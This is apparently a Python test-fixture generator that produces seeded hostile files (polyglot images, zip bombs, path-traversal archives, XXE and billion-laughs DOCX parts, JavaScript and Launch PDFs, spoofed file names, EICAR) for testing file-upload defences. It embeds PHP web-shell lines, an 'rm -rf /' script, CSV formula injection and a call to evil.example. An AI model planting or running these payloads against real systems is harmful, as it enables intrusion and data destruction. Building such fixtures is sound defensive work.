"""Hostile files from a seed: what people with bad intentions, or bad programs, send."""

from __future__ import annotations

import random
import struct
import zipfile
import zlib
from base64 import b64encode
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO

from PIL import Image

TYPES = (
    '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
# In two parts, so that no scanner takes this file for the thing itself.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
PROGRAM = (
    b"MZ\x90\x00\x03\x00\x00\x00"
    + bytes(56)
    + b"\x0e\x1f\xba\x0e\x00\xb4\t\xcd!This program cannot be run in DOS mode.\r\r\n$"
    + bytes(200)
)
PAGE = b"<!doctype html><html><body onload=alert(1)><script>alert(document.domain)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file as it is sent, and the family it is of."""

    family: str
    name: str
    content: bytes


def make_hostile(seed: int = 11, count: int = 300) -> list[Hostile]:
    """As many files, the families in turn; the same for the same seed."""
    dice = random.Random(seed)
    families = sorted(FAMILIES)
    found = []
    for number in range(count):
        family = families[number % len(families)]
        name, content = FAMILIES[family](dice, number // len(families))
        found.append(Hostile(family, name, content))
    return found


def picture(dice: random.Random, kind: str = "PNG", size: int = 60) -> bytes:
    out = BytesIO()
    shade = Image.linear_gradient("L").resize((size + dice.randrange(40), size)).convert("RGB")
    shade.save(out, kind)
    return out.getvalue()


def archive(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", compression) as made:
        for name, content in entries.items():
            made.writestr(name, content)
    return out.getvalue()


def document(**more: bytes) -> bytes:
    return archive(
        {"[Content_Types].xml": TYPES.encode(), "word/document.xml": b"<w:document/>", **more}
    )


def pdf(body: bytes, tail: bytes = b"") -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + body + b" >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
        + tail
        + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def mail(parts: bytes) -> bytes:
    return (
        b"From: ceo@example.com\r\nTo: all@example.com\r\nSubject: Urgent\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + parts + b"--b--\r\n"
    )


def attached(name: str, content: bytes) -> bytes:
    return (
        b'--b\r\nContent-Type: application/octet-stream; name="' + name.encode() + b'"\r\n'
        b'Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="'
        + name.encode()
        + b'"\r\n\r\n'
        + b64encode(content)
        + b"\r\n"
    )


def _polyglot(dice: random.Random, turn: int) -> tuple[str, bytes]:
    inner = archive({"run.js": b"alert(1)" * dice.randrange(1, 9)}, zipfile.ZIP_STORED)
    kind = dice.choice(("PNG", "JPEG", "GIF"))
    name = {"PNG": "shot.png", "JPEG": "photo.jpg", "GIF": "anim.gif"}[kind]
    extra = (inner, PAGE, pdf(b"/JS (app.alert(1))"), PROGRAM, b"<?php system($_GET[1]); ?>")[
        turn % 5
    ]
    return name, picture(dice, kind) + extra


def _commented(dice: random.Random, turn: int) -> tuple[str, bytes]:
    note = (PAGE, b"<?php passthru($_GET['c']); ?>", SVG)[turn % 3]
    if turn % 2:
        base = picture(dice, "JPEG")
        return "photo.jpg", base[:2] + b"\xff\xfe" + struct.pack(">H", len(note) + 2) + note + base[
            2:
        ]
    base = picture(dice)
    return "shot.png", base[:33] + _chunk(b"tEXt", b"Comment\x00" + note) + base[33:]


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _flood(dice: random.Random, turn: int) -> tuple[str, bytes]:
    side = dice.choice((20_000, 30_000, 65_000))
    if turn % 3 == 0:
        head = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
        rows = zlib.compress(bytes((side + 1) * 100), 9)
        return "flood.png", b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(
            b"IDAT", rows
        ) + _chunk(b"IEND", b"")
    if turn % 3 == 1:
        base = bytearray(picture(dice, "GIF"))
        base[6:10] = struct.pack("<HH", side, side)
        at = base.index(b"\x2c", 13 + 3 * 256) if b"\x2c" in base[13 + 3 * 256 :] else None
        if at is not None:
            base[at + 5 : at + 9] = struct.pack("<HH", side, side)
        return "flood.gif", bytes(base)
    base = bytearray(picture(dice, "JPEG"))
    at = base.index(b"\xff\xc0")
    base[at + 5 : at + 9] = struct.pack(">HH", side, side)
    return "flood.jpg", bytes(base)


def _frames(dice: random.Random, turn: int) -> tuple[str, bytes]:
    frames = [Image.new("L", (1 + turn, 1), n % 256) for n in range(520 + dice.randrange(200))]
    out = BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    return "frames.gif", out.getvalue()


def _zip_bomb(dice: random.Random, turn: int) -> tuple[str, bytes]:
    if turn % 2:
        return "logs.zip", archive(
            {f"{n}.log": bytes(10) for n in range(201 + dice.randrange(900))}
        )
    return "logs.zip", archive({"a.log": b"0" * ((220 + turn) << 20)}) if turn == 0 else archive(
        {f"{n}.log": b" \n" * (1 << 20) for n in range(3 + dice.randrange(8))}
    )


def _lying_zip(dice: random.Random, turn: int) -> tuple[str, bytes]:
    """Entries that lie on each other, or say they are smaller than they are."""
    base = bytearray(
        archive({"a.log": b"A" * (3 << 20), "b.log": b"hello " * dice.randrange(5, 50)})
    )
    central = base.index(b"PK\x01\x02")
    if turn % 2:
        base[central + 24 : central + 28] = struct.pack("<I", 50 + turn)
    else:
        second = base.index(b"PK\x01\x02", central + 4)
        base[second + 42 : second + 46] = struct.pack("<I", 0)
        base[second + 20 : second + 28] = base[central + 20 : central + 28]
        base[central + 20 : central + 24] = struct.pack("<I", len(base))
    return "logs.zip", bytes(base)


def _nested(dice: random.Random, turn: int) -> tuple[str, bytes]:
    content = archive({"a.log": b"hello"})
    for level in range(1 + turn % 9):
        content = archive({f"{level}.{dice.choice(('zip', 'ZIP', 'log'))}": content})
    return "logs.zip", content


def _climbing(dice: random.Random, turn: int) -> tuple[str, bytes]:
    name = (
        "../../etc/cron.d/x.log", "/etc/passwd.txt", "..\\..\\windows\\x.log", "C:\\x.log",
        "a/../../b.txt", "logs\u202egol.exe.txt",
    )[turn % 6]  # fmt: skip
    if turn % 7 == 6:
        out = BytesIO()
        with zipfile.ZipFile(out, "w") as made:
            link = zipfile.ZipInfo("link.log")
            link.external_attr = 0o120777 << 16
            made.writestr(link, "/etc/shadow")
        return "logs.zip", out.getvalue()
    return "logs.zip", archive({name: b"line %d" % dice.randrange(99), "ok.log": b"fine"})


def _acting_zip(dice: random.Random, turn: int) -> tuple[str, bytes]:
    name, content = (
        ("run.exe", PROGRAM), ("run.js", b"alert(1)"), ("run.bat", b"del /q *"), ("page.html", PAGE),
        ("setup.log", PROGRAM), ("x.txt", PAGE), ("t.txt", EICAR), ("a.svg", SVG),
    )[turn % 8]  # fmt: skip
    return "logs.zip", archive({"app.log": b"INFO %d\n" % dice.randrange(1 << 20), name: content})


def _document(dice: random.Random, turn: int) -> tuple[str, bytes]:
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">'
        + b"".join(
            b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10 if n else b"&a;" * 10)
            for n in range(9)
        )
        + b"]><w:document>&a8;</w:document>"
    )
    outside = (
        b'<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    xxe = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'
    return "letter.docx", (
        document(**{"word/header1.xml": bomb}), document(**{"word/_rels/settings.xml.rels": outside}),
        document(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(dice.randrange(99))}),
        document(**{"word/footnotes.xml": xxe}), document(**{"word/styles.xml": b"<a/>" * (7 << 20)}),
        document(**{"word/embeddings/oleObject1.bin": PROGRAM}), document(**{"word/activeX/activeX1.xml": b"<x/>"}),
        document(**{"word/media/zeros.png": bytes(120 << 20)}), document(**{"word/header2.xml": bomb.decode().encode("utf-16")}),
        document(**{"word/media/a.png": EICAR}),
    )[turn % 10]  # fmt: skip


def _drawing(dice: random.Random, turn: int) -> tuple[str, bytes]:
    name = ("a.svg", "a.png", "a.txt", "a.log", "a.jpg", "a.json", "a.csv")[turn % 7]
    return name, (b"\xef\xbb\xbf" if dice.random() < 0.3 else b"") + SVG


def _two_endings(dice: random.Random, turn: int) -> tuple[str, bytes]:
    name = (
        "invoice.pdf.exe", "run.exe.png", "page.html.jpg", "shot.png.js", "a.docm.docx", "x.bat.pdf",
        "photo.jpg.scr", "a.txt.lnk", "mail.hta.eml", "logs.vbs.zip",
    )[turn % 10]  # fmt: skip
    content = (
        picture(dice)
        if name.endswith("png")
        else picture(dice, "JPEG")
        if name.endswith("jpg")
        else PROGRAM
    )
    return name, content


def _backwards(dice: random.Random, turn: int) -> tuple[str, bytes]:
    sign = ("\u202e", "\u2066", "\u202b", "\u2067")[turn % 4]
    return f"invoice{sign}gnp.{dice.choice(('txt', 'png', 'exe', 'log'))}", b"hello there\n"


def _acting_pdf(dice: random.Random, turn: int) -> tuple[str, bytes]:
    packed = zlib.compress(b"5 0 << /S /JavaScript /JS (app.alert(%d)) >>" % dice.randrange(99))
    stream = (
        b"4 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /N 1 /First 4 /Length %d >>\nstream\n"
        % len(packed)
        + packed
        + b"\nendstream\nendobj\n"
    )
    bomb = zlib.compress(bytes(40 << 20), 9)
    swollen = (
        b"4 0 obj\n<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(bomb)
        + bomb
        + b"\nendstream\nendobj\n"
    )
    return "manual.pdf", (
        pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        pdf(b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"), pdf(b"/Names << /EmbeddedFiles << >> >>"),
        pdf(b"", stream), pdf(b"/AcroForm << /XFA 9 0 R >>"), pdf(b"/OpenAction << /S /SubmitForm >>"),
        pdf(b"/AA << /O << /S /GoToE >> >>"), pdf(b"", swollen * 4), pdf(b"").replace(b"/Root", b"/Encrypt << >> /Root"),
    )[turn % 10]  # fmt: skip


def _cut(dice: random.Random, turn: int) -> tuple[str, bytes]:
    name, content = (
        ("a.png", picture(dice)), ("a.jpg", picture(dice, "JPEG")), ("a.pdf", pdf(b"")),
        ("a.docx", document()), ("a.zip", archive({"a.log": b"hello" * 99})), ("a.webp", picture(dice, "WEBP")),
    )[turn % 6]  # fmt: skip
    return name, content[: max(9, int(len(content) * dice.uniform(0.2, 0.75)))]


def _other_magic(dice: random.Random, turn: int) -> tuple[str, bytes]:
    return (
        ("a.png", PROGRAM), ("a.pdf", PROGRAM), ("a.txt", PROGRAM), ("a.log", b"\x7fELF" + bytes(90)),
        ("a.docx", archive({"a.txt": b"x"})), ("a.png", picture(dice, "JPEG")), ("a.jpg", pdf(b"")),
        ("a.csv", archive({"a": b"b"})), ("a.json", b"\x00\x01\x02"), ("a.zip", PROGRAM + archive({"a.log": b"x"})),
        ("a.txt", b"#!/bin/sh\nrm -rf /\n"), ("a.txt", b"{\\rtf1 {\\object}}"),
    )[turn % 12]  # fmt: skip


def _acting_mail(dice: random.Random, turn: int) -> tuple[str, bytes]:
    html = b"--b\r\nContent-Type: text/html\r\n\r\n"
    return "scam.eml", (
        mail(html + b"<p>Hi</p><script>alert(1)</script>\r\n"), mail(attached("invoice.exe", PROGRAM)),
        mail(html + b"<img src=x onerror=alert(1)>\r\n"), mail(attached("note.txt", EICAR)),
        mail(attached("logs.zip", archive({"a.log": bytes(60 << 20)}))), mail(html + b"<iframe src=//evil.example>\r\n"),
        mail(b"--b\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64encode(PAGE) + b"\r\n"),
        mail(attached("letter.docm", document())), mail(b"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n" * (60 + dice.randrange(300))),
        mail(attached("shot.png", SVG)), mail(attached("x", PROGRAM)), mail(attached("a.pdf", pdf(b"/AA << /S /Launch >>"))),
    )[turn % 12]  # fmt: skip


def _test_virus(dice: random.Random, turn: int) -> tuple[str, bytes]:
    return (
        ("eicar.txt", EICAR), ("eicar.log", b"line\n" * dice.randrange(9) + EICAR), ("eicar.zip", archive({"eicar.txt": EICAR})),
        ("eicar.com", EICAR), ("shot.png", picture(dice) + EICAR), ("a.eml", mail(attached("eicar.com.txt", EICAR))),
        ("a.csv", b"a,b\n" + EICAR), ("far.log", b"INFO fine\n" * 150_000 + EICAR),
    )[turn % 8]  # fmt: skip


def _script(dice: random.Random, turn: int) -> tuple[str, bytes]:
    return (
        ("a.csv", b"name,x\nann,=cmd|'/c calc'!A0\n"), ("a.csv", b'=HYPERLINK("http://evil.example","x")\n'),
        ("a.txt", PAGE), ("a.log", b"\n\n  <script>alert(1)</script>"), ("a.txt", PAGE.decode().encode("utf-16")),
        ("a.txt", b"<?php system('id'); ?>"), ("a.json", PAGE), ("a.csv", b'a,b\n"@dde(x|y!z)",1\n'),
        ("a.txt", b"hello\x00world" * dice.randrange(1, 50)), ("a.html", PAGE), ("a.xml", SVG), ("a.js", b"alert(1)"),
    )[turn % 12]  # fmt: skip


FAMILIES: dict[str, Callable[[random.Random, int], tuple[str, bytes]]] = {
    "picture with a second file behind it": _polyglot,
    "picture with a script in its comment": _commented,
    "pixel flood": _flood,
    "flood of frames": _frames,
    "zip bomb": _zip_bomb,
    "zip that lies": _lying_zip,
    "nested archive": _nested,
    "path traversal in a zip": _climbing,
    "program in a zip": _acting_zip,
    "harmful DOCX": _document,
    "SVG": _drawing,
    "two endings": _two_endings,
    "name written backwards": _backwards,
    "acting PDF": _acting_pdf,
    "cut off": _cut,
    "fake magic": _other_magic,
    "acting mail": _acting_mail,
    "virus test file": _test_virus,
    "script as text": _script,
}
